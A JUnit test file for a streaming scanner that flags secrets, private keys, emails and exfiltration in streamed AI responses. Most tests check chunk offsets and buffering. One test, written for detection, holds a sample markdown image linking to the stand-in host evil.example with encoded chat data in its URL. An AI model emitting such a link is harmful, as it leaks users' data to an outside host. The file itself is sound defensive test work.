package io.infershield.proxy.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class StreamScannerTest {

    private static final String TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5";

    @Test
    void secretSplitAcrossTwoChunksIsCaughtWithAbsoluteOffsets() {
        StreamScanner s = StreamScanner.forResponses(Set.of());
        List<Finding> found = new ArrayList<>();
        String prefix = "x".repeat(5000) + " here is the token: ";
        found.addAll(s.feed(prefix + TOKEN.substring(0, 17)));
        found.addAll(s.feed(TOKEN.substring(17) + " and more text"));
        found.addAll(s.finish());
        assertEquals(1, found.size(), found::toString);
        assertEquals("github-pat", found.get(0).type());
        assertEquals(prefix.length(), found.get(0).start());
        assertEquals(prefix.length() + TOKEN.length(), found.get(0).end());
    }

    @Test
    void tokenArrivingOneCharAtATimeIsReportedOnce() {
        StreamScanner s = StreamScanner.forResponses(Set.of());
        List<Finding> found = new ArrayList<>();
        String text = "key " + TOKEN + " done";
        for (char c : text.toCharArray()) {
            found.addAll(s.feed(String.valueOf(c)));
        }
        found.addAll(s.finish());
        assertEquals(1, found.size(), found::toString);
        assertEquals(4, found.get(0).start());
    }

    @Test
    void findingAtTheVeryEndIsReportedWhenTheStreamFinishes() {
        StreamScanner s = StreamScanner.forResponses(Set.of());
        assertTrue(s.feed("mail me at jane@example.com").isEmpty());
        List<Finding> last = s.finish();
        assertEquals(1, last.size());
        assertEquals("email", last.get(0).type());
    }

    @Test
    void markdownImageCarryingDataToAnOutsideHostIsExfiltration() {
        StreamScanner s = StreamScanner.forResponses(Set.of("github.com"));
        List<Finding> found = new ArrayList<>(s.feed("Done! ![img](https://evil.example/p.png?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0"));
        found.addAll(s.feed(") ok ![ok](https://github.com/a.png?x=0123456789abcdefghij)"));
        found.addAll(s.finish());
        assertEquals(1, found.size(), found::toString);
        assertEquals(Category.EXFILTRATION, found.get(0).category());
        assertEquals("markdown_image", found.get(0).type());
        assertEquals(6, found.get(0).start());
    }

    @Test
    void textIsFinalAHoldBehindTheEndAndATokenIsHeldUntilABlankEndsIt() {
        StreamScanner s = new StreamScanner(List.of(new SecretDetector()), 256);
        s.feed("Sure. ");
        assertEquals(6 - StreamScanner.HOLD, s.heldFrom(), "the first words wait for the hold");
        for (int i = 0; i < 20; i++) {
            s.feed("word ");
        }
        assertEquals(s.position() - StreamScanner.HOLD, s.heldFrom(), "prose trails the end by the hold, not the look-back");
        long token = s.position();
        s.feed("Bearer ");
        assertEquals(s.position() - StreamScanner.HOLD, s.heldFrom());
        for (int i = 0; i < 12; i++) {
            s.feed("AbCdEfGhIj");
            assertEquals(Math.min(s.position() - StreamScanner.HOLD, token + 7), s.heldFrom(),
                    "a token still arriving is held from its first char");
        }
        for (int i = 0; i < 20; i++) {
            s.feed("KlMnOpQrSt");
        }
        assertEquals(s.position() - 256, s.heldFrom(), "a token longer than the look-back is released from the look-back on");
        s.feed(" done");
        assertEquals(s.position() - StreamScanner.HOLD, s.heldFrom());
    }

    @Test
    void memoryStaysBoundedOnALongStream() {
        StreamScanner s = new StreamScanner(List.of(new SecretDetector()), 256);
        for (int i = 0; i < 20_000; i++) {
            s.feed("lorem ipsum dolor sit amet ");
        }
        assertEquals(20_000L * 27, s.position());
    }

    @Test
    void aPrivateKeyLongerThanTheLookBackIsHeldFromItsHeaderAndFoundWhole() throws Exception {
        String key = TestKeys.pemPrivateKey();
        assertTrue(key.length() > 3 * StreamScanner.DEFAULT_LOOK_BACK, "longer than the look-back: " + key.length());
        StreamScanner s = StreamScanner.forResponses(Set.of());
        String before = "x".repeat(2000) + " Here is the deploy key:\n";
        List<Finding> found = new ArrayList<>(s.feed(before));
        String text = key + "\nKeep it safe.";
        for (int i = 0; i < text.length(); i += 37) {
            found.addAll(s.feed(text.substring(i, Math.min(text.length(), i + 37))));
            if (i + 37 < key.length()) {
                // the key's lines end with blanks, so without the block its text would be final 64 chars behind
                assertEquals(Math.min(s.position() - StreamScanner.HOLD, before.length()), s.heldFrom(),
                        "nothing from the header on is final while the key is open");
            }
        }
        assertEquals(before.length() + text.length() - StreamScanner.HOLD, s.heldFrom(),
                "once the key is closed, text is final again but for the hold");
        found.addAll(s.finish());
        // the key's random base64 may hold a run that passes as an IBAN or a phone number: only secrets count here
        found.removeIf(f -> f.category() != Category.SECRET);
        assertEquals(1, found.size(), found::toString);
        assertEquals("private-key", found.get(0).type());
        assertEquals(before.length(), found.get(0).start());
        assertEquals(before.length() + key.length(), found.get(0).end());
    }

    @Test
    void aPrivateKeyWhoseEndLineClosesADeltaIsStillFoundWhole() throws Exception {
        String key = TestKeys.pemPrivateKey();
        StreamScanner s = StreamScanner.forResponses(Set.of());
        List<Finding> found = new ArrayList<>();
        for (int i = 0; i < key.length(); i += 100) {
            found.addAll(s.feed(key.substring(i, Math.min(key.length(), i + 100))));
        }
        assertEquals(0, s.heldFrom(), "the key ends the last delta: it is held until text follows or the stream ends");
        found.addAll(s.finish());
        found.removeIf(f -> f.category() != Category.SECRET);
        assertEquals(1, found.size(), found::toString);
        assertEquals(key.length(), found.get(0).end());
    }

    @Test
    void aBeginLineThatNeverEndsIsHeldNoLongerThanTheBound() {
        StreamScanner s = StreamScanner.forResponses(Set.of());
        s.feed("-----BEGIN RSA PRIVATE KEY-----\n");
        for (int i = 0; i < 300; i++) {
            s.feed("this is not a key, just a long answer that goes on and on. ");
            if (s.position() < StreamScanner.MAX_OPEN_BLOCK) {
                assertEquals(0, s.heldFrom());
            }
        }
        assertEquals(s.position() - StreamScanner.HOLD, s.heldFrom(),
                "past " + StreamScanner.MAX_OPEN_BLOCK + " chars the block is let go");
    }
}
